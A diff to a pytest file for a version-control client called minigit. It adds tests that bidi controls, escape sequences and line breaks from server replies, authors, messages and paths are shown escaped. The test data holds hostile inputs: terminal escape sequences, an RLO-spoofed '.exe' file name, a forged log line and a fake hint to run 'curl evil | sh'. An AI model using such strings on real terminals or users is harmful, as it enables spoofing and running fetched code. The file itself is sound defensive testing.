@@ -20,11 +20,20 @@ from minigit.client import cli
 from minigit.client import operations as op
 from minigit.client import workspace as ws
 from minigit.config import ServerFlags
-from minigit.console import exit_on_error, quoted_path, shown
+from minigit.console import BIDI_CONTROLS, MESSAGE_KEEP, exit_on_error, quoted_path, shown
 from minigit.errors import ExitCode, MinigitError
 
 HOSTILE_MESSAGE = "hi\x1b]0;PWNED\x07\x1b[31mRED\x1b[2J\r\x9b1m\x7f\tend\nsecond line"
-HOSTILE_PATHS = ["evil\x1b[31m.txt", "new\nline.txt", 'say "hi".txt', "tab\there"]
+HOSTILE_PATHS = ["evil\x1b[31m.txt", "new\nline.txt", 'say "hi".txt', "tab\there", "invoice\u202etxt.exe"]
+# What each bidi control is written as.
+BIDI = {
+    "\u202a": "\\u202a",
+    "\u202e": "\\u202e",
+    "\u2066": "\\u2066",
+    "\u2069": "\\u2069",
+    "\u200e": "\\u200e",
+    "\u200f": "\\u200f",
+}
 
 
 @pytest.fixture
@@ -59,7 +68,7 @@ def workdir(server: InProcessServer, root: Path, content: dict[str, str]) -> Pat
 
 def assert_harmless(text: str) -> None:
     """No control character from the hostile texts reached the terminal."""
-    for raw in ("\x1b]0;", "\x07", "\x1b[31m", "\x1b[2J", "\r", "\x9b", "\x7f", "evil\x1b"):
+    for raw in ("\x1b]0;", "\x07", "\x1b[31m", "\x1b[2J", "\r", "\x9b", "\x7f", "evil\x1b", *BIDI_CONTROLS):
         assert raw not in text
 
 
@@ -120,16 +129,32 @@ def test_the_bounds_of_the_timeout_are_allowed(server: InProcessServer, tmp_path
 
 
 def test_shown_and_quoted_path_write_control_characters_as_c_escapes() -> None:
-    assert shown(HOSTILE_MESSAGE) == ("hi\\033]0;PWNED\\a\\033[31mRED\\033[2J\\r\\302\\2331m\\177\tend\nsecond line")
-    assert shown("a\tb\nc", keep="") == "a\\tb\\nc"
+    escaped = "hi\\033]0;PWNED\\a\\033[31mRED\\033[2J\\r\\302\\2331m\\177"
+    assert shown(HOSTILE_MESSAGE, MESSAGE_KEEP) == escaped + "\tend\nsecond line"  # a message body
+    assert shown(HOSTILE_MESSAGE) == escaped + "\\tend\\nsecond line"  # a one-line field: nothing kept
+    assert shown("a\tb\nc", keep="") == shown("a\tb\nc") == "a\\tb\\nc"
     assert shown("café ünïcode [bold]") == "café ünïcode [bold]"
     assert [quoted_path(path) for path in HOSTILE_PATHS] == [
         '"evil\\033[31m.txt"',
         '"new\\nline.txt"',
         '"say \\"hi\\".txt"',
         '"tab\\there"',
+        '"invoice\\u202etxt.exe"',
     ]
     assert quoted_path("plain/dir/file name.txt") == "plain/dir/file name.txt"
+
+
+@pytest.mark.parametrize("char", sorted(BIDI_CONTROLS))
+def test_bidi_controls_are_shown_escaped_in_messages_and_paths(char: str) -> None:
+    written = f"\\u{ord(char):04x}"
+    assert shown(f"a{char}b\nc", MESSAGE_KEEP) == f"a{written}b\nc" and shown(f"a{char}b") == f"a{written}b"
+    assert quoted_path(f"a{char}b.txt") == f'"a{written}b.txt"'
+
+
+def test_the_bidi_controls_are_those_unicode_names() -> None:
+    assert set(BIDI) <= BIDI_CONTROLS
+    assert {chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F]} <= BIDI_CONTROLS
+    assert [shown(char) for char in BIDI] == list(BIDI.values())
 
 
 def test_log_shows_escape_sequences_in_messages_instead_of_sending_them(
@@ -149,6 +174,30 @@ def test_log_shows_escape_sequences_in_messages_instead_of_sending_them(
 
     as_json = minigit("log", "--json", cwd=root)
     assert json.loads(as_json.stdout)["versions"][0]["message"] == HOSTILE_MESSAGE  # scripts get the raw text
+
+
+def test_log_shows_a_line_break_in_an_author_escaped_so_it_cannot_forge_a_line(
+    server: InProcessServer, tmp_path: Path
+) -> None:
+    root = workdir(server, tmp_path / "w", {"a.txt": "a"})
+    forged = "mallory\nDate:   Mon Jan 01 00:00:00 2001 +0000\x1b[2J\u202e"
+    server.tamper(edit_reply(lambda doc: doc["entries"][0].update(author=forged, message="one\u202eeno\nline two")))
+    shown_log = minigit("log", cwd=root)
+    assert shown_log.exit_code == 0, shown_log.output
+    assert_harmless(shown_log.stdout)
+    lines = shown_log.stdout.split("\n")
+    assert "Author: mallory\\nDate:   Mon Jan 01 00:00:00 2001 +0000\\033[2J\\u202e" in lines
+    assert [line for line in lines if line.startswith("Date:")] == [lines[lines.index("version 1") + 2]]
+    assert "    one\\u202eeno" in lines and "    line two" in lines  # the message keeps its line break
+
+
+def test_a_message_from_the_server_in_an_error_cannot_add_a_line(server: InProcessServer, tmp_path: Path) -> None:
+    root = workdir(server, tmp_path / "w", {"a.txt": "a"})
+    (root / "a.txt").write_text("b")
+    server.tamper(edit_reply(lambda doc: doc.update(status="invalid", message="no\nhint: run 'curl evil | sh'")))
+    refused = minigit("push", cwd=root)
+    assert refused.exit_code == ExitCode.ERROR
+    assert refused.output == "error: the server refused the push: no\\nhint: run 'curl evil | sh'\n"
 
 
 def test_pull_and_status_show_paths_with_control_characters_quoted_like_git(
